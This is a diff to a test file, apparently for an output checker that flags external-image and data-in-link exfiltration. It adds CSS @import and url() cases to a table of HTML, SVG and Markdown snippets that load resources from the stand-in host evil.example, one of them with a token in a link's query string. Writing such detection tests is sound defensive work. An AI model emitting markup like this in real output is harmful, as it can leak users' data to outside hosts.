@@ -416,6 +416,8 @@ describe("output checks and redaction", () => {
       ["<div style=\"background:url('https://evil.example/p.png')\">x</div>", "external_image"],
       ['<svg><image href="https://evil.example/p.png"/></svg>', "external_image"],
       ["<link rel=stylesheet href=https://evil.example/s.css>", "external_image"],
+      ["<style>@import 'https://evil.example/s.css';</style>", "external_image"],
+      ["<style>\nbody { background: url(https://evil.example/p.png) }\n</style>", "external_image"],
       ["![p](//evil.example/p.png)", "external_image"],
       ["![p](https&#x3a;//evil.example/p.png)", "external_image"],
       ['<a href="https://evil.example/?d=Zq8vN2rT5wX7pL4mZq8vN2rT5wX7pL4m">x</a>', "data_in_link"],
